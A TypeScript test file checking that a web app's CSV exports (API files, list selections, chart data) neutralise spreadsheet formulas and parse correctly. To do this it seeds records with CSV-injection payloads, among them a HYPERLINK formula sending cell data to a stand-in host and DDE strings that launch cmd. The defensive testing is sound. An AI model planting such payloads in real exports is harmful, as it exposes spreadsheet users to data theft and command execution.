// One CSV policy for every CSV we send: text a spreadsheet would run as a formula (=, +, -, @, tab, CR at
// the start) is neutralised with a leading apostrophe in the API's bulk files, the lists' selections
// and the charts' numbers alike, and every file parses with a real CSV parser (csv-parse).
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { GET as chartCsv } from "@/app/exports/charts/[file]/route";
import { listAgreementsPage } from "@/lib/data/agreements";
import { agreementColumns, csvEntities, pledgeColumns } from "@/lib/export/columns";
import { selectionCsvResponse } from "@/lib/export/selection";
import { csvChunks, textStream } from "@/lib/export/stream";
import { seedDatabase } from "@/lib/seed/load";
import { dataset } from "@/seeds/index";
import { createTestDatabase, databaseModes, type TestDatabase } from "../helpers/database";
import { requestState } from "../helpers/admin";

vi.mock("@/lib/db", async () => (await import("../helpers/admin")).nextMocks.db());

const attacks = {
  agreement: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")',
  pledge: "+cmd|' /C calc'!A0",
  actor: "@SUM(1+1)*cmd|' /C calc'!A0",
  event: "-2+3+cmd|' /C calc'!A0",
  quote: "=1+1 said nobody, but the CSV must not run it",
  tab: "\t=tabbed formula",
};

/** Cells that a spreadsheet would evaluate: text starting with a formula character (plain numbers aside). */
function dangerous(rows: string[][]): string[] {
  return rows.flat().filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

async function readCsv(response: Response) {
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
  const text = await response.text();
  return parse(text, { relax_column_count: false }) as string[][];
}

describe.each(databaseModes)("CSV formula policy on %s", (mode) => {
  let db: TestDatabase;

  beforeAll(async () => {
    db = await createTestDatabase(mode);
    await seedDatabase(db.prisma, dataset);
    requestState.prisma = db.prisma;
    const p = db.prisma;
    const deal = await p.agreement.findFirstOrThrow({ orderBy: { id: "asc" }, select: { id: true } });
    await p.agreement.update({ where: { id: deal.id }, data: { title: attacks.agreement, summary: attacks.tab } });
    const pledge = await p.pledge.findFirstOrThrow({ orderBy: { id: "asc" }, select: { id: true } });
    await p.pledge.update({ where: { id: pledge.id }, data: { title: attacks.pledge, item: attacks.tab } });
    const actor = await p.actor.findFirstOrThrow({ where: { kind: "COMPANY" }, orderBy: { id: "asc" }, select: { id: true } });
    await p.actor.update({ where: { id: actor.id }, data: { name: attacks.actor, aliases: [attacks.agreement] } });
    const event = await p.event.findFirstOrThrow({ orderBy: { id: "asc" }, select: { id: true } });
    await p.event.update({ where: { id: event.id }, data: { title: attacks.event } });
    const citation = await p.citation.findFirstOrThrow({
      where: { agreementId: { not: null } },
      orderBy: { id: "asc" },
      select: { id: true },
    });
    await p.citation.update({ where: { id: citation.id }, data: { quote: attacks.quote } });
    const source = await p.source.findFirstOrThrow({ orderBy: { id: "asc" }, select: { id: true } });
    await p.source.update({ where: { id: source.id }, data: { title: attacks.pledge } });
  });
  afterAll(() => db.drop());

  it.each(csvEntities)("/api/v1/%s.csv neutralises formulas and parses", async (entity) => {
    const rows = await readCsv(
      new Response(textStream(csvChunks(db.prisma, entity)), { headers: { "content-type": "text/csv; charset=utf-8" } }),
    );
    expect(rows.length).toBeGreaterThan(1);
    expect(dangerous(rows)).toEqual([]);
    const cells = rows.flat();
    const expected = {
      actors: attacks.actor,
      agreements: attacks.agreement,
      pledges: attacks.pledge,
      events: attacks.event,
      sources: attacks.pledge,
      citations: attacks.quote,
    }[entity];
    expect(cells).toContain(`'${expected}`);
  });

  it("the lists' selections (/exports/deals.csv, /exports/pledges.csv) neutralise formulas, parse, and keep the list's order", async () => {
    const deals = await readCsv(await selectionCsvResponse(db.prisma, "deals", new Request("http://test/exports/deals.csv?sort=title")));
    expect(dangerous(deals)).toEqual([]);
    expect(deals.flat()).toContain(`'${attacks.agreement}`);
    const listed = await listAgreementsPage(db.prisma, {}, "title", { page: 1, per: 100 });
    expect(deals.slice(1).map((r) => r[0])).toEqual(listed.data.map((d) => d.slug));
    const pledges = await readCsv(
      await selectionCsvResponse(db.prisma, "pledges", new Request("http://test/exports/pledges.csv?status=PLEDGED")),
    );
    expect(dangerous(pledges)).toEqual([]);
    expect(pledges[0]).toEqual(pledgeColumns.map((c) => c.name));
    expect(deals[0]).toEqual(agreementColumns.map((c) => c.name));
    expect(pledges.slice(1).every((r) => r[pledges[0]!.indexOf("status")] === "PLEDGED")).toBe(true);
  });

  it("a bad filter on a selection is a 400 with the issue named, not a 5xx", async () => {
    const response = await selectionCsvResponse(db.prisma, "deals", new Request("http://test/exports/deals.csv?q=%00"));
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ issues: [{ path: "q" }] });
  });

  it("chart CSVs go through the same writer and parse", async () => {
    const response = await chartCsv(new Request("http://test/exports/charts/pledges-by-donor-country.csv"), {
      params: Promise.resolve({ file: "pledges-by-donor-country.csv" }),
    });
    const rows = await readCsv(response);
    expect(rows.length).toBeGreaterThan(1);
    expect(dangerous(rows)).toEqual([]);
  });
});
